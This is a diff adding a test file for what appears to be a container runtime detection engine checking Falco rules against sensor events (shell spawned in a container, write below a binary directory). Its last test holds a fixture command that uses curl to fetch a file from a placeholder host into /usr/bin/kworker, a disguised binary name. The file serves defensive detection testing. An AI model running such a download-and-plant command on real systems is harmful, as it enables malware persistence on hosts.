@@ -1,0 +1,81 @@
+import { describe, expect, it } from 'vitest';
+import { join } from 'node:path';
+import { requireDataset } from '../../src/util/datasets.js';
+import { loadRuleFiles } from '../../src/detect/rules/loader.js';
+import { RuleEngine } from '../../src/detect/rules/engine.js';
+import { nextEventId, nowNs, type VigieEvent } from '../../src/model/event.js';
+import { alertSchema } from '../../src/model/alert.js';
+
+const dir = requireDataset('falco-rules');
+
+/** The event Vigie's live sensor emits when `docker exec -it <c> sh` starts a shell. */
+function shellInContainer(tty: number | undefined): VigieEvent {
+  return {
+    id: nextEventId(),
+    kind: 'process',
+    ts: nowNs(),
+    source: 'bpftrace',
+    host: 'node-1',
+    container: { id: '3f2a9c1b7d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4', name: 'web', image: 'nginx:1.25' },
+    proc: { pid: 4242, ppid: 4200, name: 'sh', exe: '/bin/sh', cmdline: 'sh', pname: 'runc', anames: ['runc', 'containerd-shim'], uid: 0, tty },
+  };
+}
+
+describe.skipIf(!dir)('syscall rules on Vigie live events', () => {
+  const loaded = dir ? loadRuleFiles([join(dir, 'falco_rules.yaml')]) : undefined;
+
+  it('a shell with a terminal in a container fires "Terminal shell in container"', () => {
+    const engine = new RuleEngine(loaded!, { ruleMatching: 'all' });
+    const alerts = engine.alerts(shellInContainer(34816), 'test-host');
+    const names = alerts.map((a) => a.rule);
+    expect(names).toContain('Terminal shell in container');
+    const a = alerts.find((x) => x.rule === 'Terminal shell in container')!;
+    expect(alertSchema.safeParse(a).success).toBe(true);
+    expect(a.priority).toBe('Notice');
+    expect(a.source).toBe('syscall');
+    expect(a.output).toMatch(/A shell was spawned in a container with an attached terminal/);
+    expect(a.output_fields['proc.name']).toBe('sh');
+    expect(a.output_fields['proc.pname']).toBe('runc');
+    expect(a.output_fields['evt.type']).toBe('execve');
+    expect(a.output_fields['user.loginuid']).toBe(null); // a field Vigie cannot provide renders <NA>
+    expect(a.tags).toEqual([...a.tags].sort());
+    expect(a.vigie.mitre.some((m) => m.technique === 'T1059')).toBe(true);
+    expect(a.vigie.entities.container?.id).toMatch(/^3f2a9c1b7d4e/);
+  });
+
+  it('without a terminal it does not fire, and a host shell does not either', () => {
+    const engine = new RuleEngine(loaded!, { ruleMatching: 'all' });
+    expect(engine.alerts(shellInContainer(0), 'h').map((a) => a.rule)).not.toContain('Terminal shell in container');
+    const host = shellInContainer(34816);
+    delete host.container;
+    expect(engine.alerts(host, 'h').map((a) => a.rule)).not.toContain('Terminal shell in container');
+  });
+
+  it('the index only offers exec rules to exec events', () => {
+    const engine = new RuleEngine(loaded!);
+    const execRules = engine.candidates(shellInContainer(1));
+    expect(execRules.length).toBeGreaterThan(0);
+    expect(execRules.length).toBeLessThan(engine.activeRules().filter((r) => r.source === 'syscall').length);
+    expect(execRules.every((r) => r.keys === null || r.keys.has('execve'))).toBe(true);
+  });
+
+  it('an open for writing below /usr/bin maps onto the open_write rules', () => {
+    const all = loadRuleFiles(['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].map((f) => join(dir!, f)));
+    const engine = new RuleEngine(all, { ruleMatching: 'all' });
+    const ev: VigieEvent = {
+      id: nextEventId(),
+      kind: 'file',
+      ts: nowNs(),
+      source: 'bpftrace',
+      container: { id: 'abcdef0123456789', image: 'alpine:3' },
+      proc: { pid: 10, name: 'curl', exe: '/usr/bin/curl', cmdline: 'curl -o /usr/bin/kworker http://x', pname: 'sh', uid: 0 },
+      file: { op: 'open', path: '/usr/bin/kworker', flags: 0o1101, write: true, ret: 3 },
+    };
+    const alerts = engine.alerts(ev, 'h');
+    expect(alerts.map((a) => a.rule)).toContain('Write below binary dir');
+    expect(alerts.find((a) => a.rule === 'Write below binary dir')!.output_fields['fd.name']).toBe('/usr/bin/kworker');
+    // The same open for reading does not match.
+    const read = { ...ev, id: nextEventId(), file: { op: 'open', path: '/usr/bin/kworker', flags: 0, write: false, ret: 3 } };
+    expect(engine.alerts(read, 'h').map((a) => a.rule)).not.toContain('Write below binary dir');
+  });
+});
